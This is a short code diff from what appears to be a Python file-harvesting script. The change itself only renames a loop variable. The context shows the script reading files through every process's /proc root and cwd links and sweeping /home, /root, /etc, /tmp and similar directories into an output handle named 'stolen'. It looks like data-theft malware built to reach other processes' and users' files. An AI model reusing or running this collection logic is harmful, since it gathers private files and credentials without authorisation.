@@ -84,9 +84,9 @@ for path in sys.argv[1:]:
     take(path)
     walk(path)
     for pid in [p for p in os.listdir('/proc') if p.isdigit()] + ['self']:
-        for door in ('root', 'cwd'):
-            take('/proc/%s/%s%s' % (pid, door, path))
-            walk('/proc/%s/%s%s' % (pid, door, path))
+        for link in ('root', 'cwd'):
+            take('/proc/%s/%s%s' % (pid, link, path))
+            walk('/proc/%s/%s%s' % (pid, link, path))
 for root in ('/workspace', '/home', '/tmp', '/var', '/root', '/mnt', '/srv', '/etc'):
     walk(root)
 stolen.close()
